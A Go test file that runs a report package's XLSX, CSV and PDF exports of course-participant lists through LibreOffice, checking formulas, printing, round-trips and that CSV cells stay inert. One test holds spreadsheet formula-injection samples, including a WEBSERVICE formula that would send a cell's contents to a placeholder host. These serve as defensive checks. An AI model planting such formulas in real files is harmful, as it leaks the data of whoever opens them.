package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
)

// The tests below open our files in LibreOffice, and look at what it prints.
// "make setup" installs it; where CI is set a missing one is a failure.

func needs(t *testing.T, names ...string) {
	t.Helper()
	if testing.Short() {
		t.Skip("runs other programs")
	}
	for _, name := range names {
		if _, err := exec.LookPath(name); err == nil {
			continue
		}
		why := name + " is not installed; \"make setup\" does it"
		if os.Getenv("CI") == "true" {
			t.Fatal(why)
		}
		t.Skip(why)
	}
}

// office is LibreOffice with a folder of its own.
type office struct {
	*testing.T
	dir string
}

func newOffice(t *testing.T) office {
	t.Helper()
	needs(t, "soffice", "pdfinfo", "pdftotext")
	return office{t, t.TempDir()}
}

func (o office) put(name string, file []byte) {
	o.Helper()
	if err := os.WriteFile(filepath.Join(o.dir, name), file, 0o600); err != nil {
		o.Fatal(err)
	}
}

func (o office) get(name string) []byte {
	o.Helper()
	b, err := os.ReadFile(filepath.Join(o.dir, name))
	if err != nil {
		files, _ := filepath.Glob(filepath.Join(o.dir, "*"))
		o.Fatal(err, files)
	}
	return b
}

func (o office) run(name string, args ...string) string {
	o.Helper()
	ctx, stop := context.WithTimeout(o.Context(), 5*time.Minute)
	defer stop()
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.Dir = o.dir
	out, err := cmd.CombinedOutput()
	if err != nil {
		o.Fatalf("%s: %v\n%s", name, err, out)
	}
	return string(out)
}

// converts opens files and saves them as another format, into its folder.
func (o office) converts(to string, names ...string) {
	o.Helper()
	o.run("soffice", append([]string{"--headless", "--norestore", "-env:UserInstallation=file://" + filepath.Join(o.dir, "profile"), "--convert-to", to}, names...)...)
}

// asCSV is every sheet as CSV: UTF-8, texts quoted, cells as they are shown.
const asCSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,true,false,false,-1"

// sheet is what a sheet shows, from the CSV file it was saved as.
func (o office) sheet(file, sheet string) [][]string {
	o.Helper()
	in := csv.NewReader(bytes.NewReader(o.get(file + "-" + sheet + ".csv")))
	in.FieldsPerRecord = -1
	rows, err := in.ReadAll()
	if err != nil {
		o.Fatal(err)
	}
	return rows
}

// uncounted is a workbook without the values its formulas had, so that who
// opens it must count.
func uncounted(t testing.TB, file []byte) []byte {
	t.Helper()
	const name = "xl/worksheets/sheet2.xml"
	sheet := partOf(t, file, name)
	bare := regexp.MustCompile(`</f><v>[^<]*</v>`).ReplaceAllString(sheet, "</f>")
	if bare == sheet {
		t.Fatal("the summary has no formulas")
	}
	return repacked(t, file, map[string]string{name: bare})
}

// shownRows is what our own summary says a sheet must show.
func shownRows(s summary) (rows [][]string) {
	for _, r := range s.rows {
		row := []string{r.label}
		for _, c := range r.cells {
			row = append(row, fmt.Sprint(c.value))
		}
		rows = append(rows, row)
	}
	return rows
}

// trimmed leaves out what is empty at the end of rows and of all.
func trimmed(rows [][]string) [][]string {
	for i, r := range rows {
		for len(r) > 1 && r[len(r)-1] == "" {
			r = r[:len(r)-1]
		}
		rows[i] = r
	}
	for len(rows) > 0 && len(rows[len(rows)-1]) == 1 && rows[len(rows)-1][0] == "" {
		rows = rows[:len(rows)-1]
	}
	return rows
}

// Cell by cell, LibreOffice shows what was put in, and counts what we counted.
func TestLibreOfficeShowsWhatWasPutIn(t *testing.T) {
	o := newOffice(t)
	people := samplePeople(len(attacks) + 30)
	book := sampleBook(t, len(people))
	demand, err := Demands(export(), wishes())
	if err != nil {
		t.Fatal(err)
	}
	tickets, err := Tickets(export(), sampleTickets())
	if err != nil {
		t.Fatal(err)
	}
	books := map[string]Book{"course": book, "demand": demand, "tickets": tickets}
	for name, b := range books {
		o.put(name+".xlsx", uncounted(t, xlsxOf(t, b)))
	}
	o.converts(asCSV, "course.xlsx", "demand.xlsx", "tickets.xlsx")
	for name, b := range books {
		var want [][]string
		for _, row := range b.list.rows {
			want = append(want, shownCells(row))
		}
		if diff := cmp.Diff(trimmed(want), trimmed(o.sheet(name, b.list.sheet)[1:])); diff != "" {
			t.Errorf("the list %s, -put in +shown\n%s", name, diff)
		}
		if diff := cmp.Diff(trimmed(shownRows(b.summary)), trimmed(o.sheet(name, summarySheet))); diff != "" {
			t.Errorf("the summary of %s, -ours +counted\n%s", name, diff)
		}
	}
	raw := string(o.get("course-" + book.list.sheet + ".csv"))
	for _, text := range []string{`"0910000000"`, `"=1+1"`, `"=WEBSERVICE(""http://x.example/""&A1)"`, `"N00000"`} {
		if !strings.Contains(raw, text) {
			t.Errorf("%s is no text there", text)
		}
	}
}

func shownCells(row []any) (cells []string) {
	for _, v := range row {
		switch v := v.(type) {
		case nil:
			cells = append(cells, "")
		case time.Time:
			cells = append(cells, v.Format("02/01/2006 15:04"))
		default:
			cells = append(cells, fmt.Sprint(v))
		}
	}
	return cells
}

// The summary follows what is changed in the list, and rows written below it.
func TestTheSummaryFollowsTheList(t *testing.T) {
	o := newOffice(t)
	people := samplePeople(20)
	for i := range people {
		people[i].Status, people[i].Commune, people[i].Sex, people[i].Year = "waiting", "A Lưới 1", "f", 2000
	}
	b, err := Course(export(), sampleStatuses, people)
	if err != nil {
		t.Fatal(err)
	}
	o.put("c.xlsx", uncounted(t, edited(t, xlsxOf(t, b), func(f *excelize.File, sheet string) error {
		if err := set("K2", "Nhận lời", "G3", "A Lưới 9", "E4", "Nam", "K5", "gì đó")(f, sheet); err != nil {
			return err
		}
		return f.SetSheetRow(sheet, "A22", &[]any{21, "N9", "Viết thêm", 1950, "Nam", "", "A Lưới 1", "", "", "", "Đã mời"})
	})))
	o.converts(asCSV, "c.xlsx")
	got := map[string][]string{}
	for _, row := range trimmed(o.sheet("c", summarySheet)) {
		got[row[0]] = append(got[row[0]], strings.Join(row[1:], " "))
	}
	for label, want := range map[string][]string{
		"A Lưới 1": {"20 18 2 0"}, "Nhận lời": {"1 1 0 0"}, "Đã mời": {"1 0 1 0"}, "Đang chờ": {"18 17 1 0"},
		"Khác, không ghi": {"1 1 0 0", "1 1 0 0", "0 0 0 0"}, "Tổng": {"21 19 2 0", "21 19 2 0", "21 19 2 0"},
		"25–34 tuổi, sinh 1992–2001": {"20 19 1 0"}, "Từ 50 tuổi, sinh 1976 về trước": {"1 0 1 0"},
	} {
		if diff := cmp.Diff(want, got[label]); diff != "" {
			t.Errorf("%s, -want +counted\n%s", label, diff)
		}
	}
}

// A4 across, one page wide, the head on each page of the list, what may not be
// done at the foot of all.
func TestWhatIsPrinted(t *testing.T) {
	o := newOffice(t)
	o.put("c.xlsx", xlsxOf(t, sampleBook(t, 100)))
	o.converts("pdf", "c.xlsx")
	info := o.run("pdfinfo", "c.pdf")
	if !regexp.MustCompile(`Page size: +841\.\d+ x 595\.\d+ pts \(A4\)`).MatchString(info) {
		t.Errorf("not A4 across:\n%s", info)
	}
	if strings.Contains(info, "Lan") || !strings.Contains(info, "Ghi tên lớp: Nuôi bò") {
		t.Errorf("the file says of itself:\n%s", info)
	}
	o.run("pdftotext", "-layout", "c.pdf", "c.txt")
	pages := strings.Split(strings.TrimSuffix(string(o.get("c.txt")), "\f"), "\f")
	heads := 0
	for i, p := range pages {
		if strings.Contains(p, headName) && strings.Contains(p, headNote) {
			heads++
		}
		if !strings.Contains(p, "Không chuyển tiếp") || !strings.Contains(p, fmt.Sprintf("Trang %d/%d", i+1, len(pages))) {
			t.Errorf("the foot of page %d:\n%s", i+1, p)
		}
		if strings.Contains(p, headStamp) || strings.Contains(p, "v.3.") {
			t.Errorf("page %d shows the hidden column", i+1)
		}
	}
	if heads != len(pages)-2 || heads < 2 {
		t.Errorf("%d of %d pages are of the list; the summary and the notes are one each", heads, len(pages))
	}
	if !strings.Contains(pages[len(pages)-2], "Số người theo xã") {
		t.Error("the summary is printed without its chart")
	}
}

// A list that LibreOffice has saved, as a workbook or as CSV, comes back.
func TestALibreOfficeListComesBack(t *testing.T) {
	o := newOffice(t)
	people := samplePeople(len(attacks) + 5)
	file := edited(t, xlsxOf(t, sampleBook(t, len(people))), set("K2", "Nhận lời", "L3", "đã gọi, hẹn thứ Hai"))
	o.put("c.xlsx", file)
	o.converts("ods", "c.xlsx")
	o.converts("xlsx:Calc MS Excel 2007 XML", "c.ods")
	o.converts(asCSV, "c.ods")
	want := Preview{
		Changes: []Change{
			{2, people[0].Code, people[0].Status, "accepted", line(people[0].Note), false},
			{3, people[1].Code, people[1].Status, people[1].Status, "đã gọi, hẹn thứ Hai", true},
		},
		Same: len(people) - 2,
	}
	for _, name := range []string{"c.xlsx", "c-DS Nuôi bò.csv"} {
		back := o.get(name)
		if name == "c.xlsx" && bytes.Equal(back, file) {
			t.Fatal("LibreOffice has not saved it")
		}
		if diff := cmp.Diff(want, Plan(current(people), sampleStatuses, readBack(t, back))); diff != "" {
			t.Errorf("%s, -want +got\n%s", name, diff)
		}
	}
	if f := opened(t, o.get("c.xlsx")); f != nil {
		hidden, err := f.GetColVisible("DS Nuôi bò", "M")
		list, err2 := f.GetDataValidations("DS Nuôi bò")
		if hidden || err != nil || err2 != nil || len(list) != 1 {
			t.Errorf("what LibreOffice kept: column shown %v, %v; %d drop-downs, %v", hidden, err, len(list), err2)
		}
	}
	o.refusesODS()
}

func (o office) refusesODS() {
	o.Helper()
	ods := o.get("c.ods")
	if _, err := ReadBack(bytes.NewReader(ods), int64(len(ods))); code(err) != "report_not_a_list" {
		o.Errorf("an .ods file: %v", err)
	}
}

// Nothing in our CSV file is calculated where it is opened.
func TestCSVIsInertInLibreOffice(t *testing.T) {
	o := newOffice(t)
	people := samplePeople(len(attacks))
	o.put("c.csv", csvOf(t, sampleBook(t, len(people))))
	o.converts("xlsx:Calc MS Excel 2007 XML", "--infilter=CSV:44,34,76,1", "c.csv")
	file := o.get("c.xlsx")
	if sheet := partOf(t, file, "xl/worksheets/sheet1.xml"); strings.Contains(sheet, "<f") {
		t.Error("it holds a formula")
	}
	rows, err := opened(t, file).GetRows("c")
	if err != nil {
		t.Fatal(err)
	}
	for i, p := range people {
		if got := rows[i+1]; got[2] != inert(line(p.Name)) || got[7] != gapped("0"+strings.TrimPrefix(p.Phone, "+84")) {
			t.Errorf("row %d is %q", i+1, got)
		}
	}
}
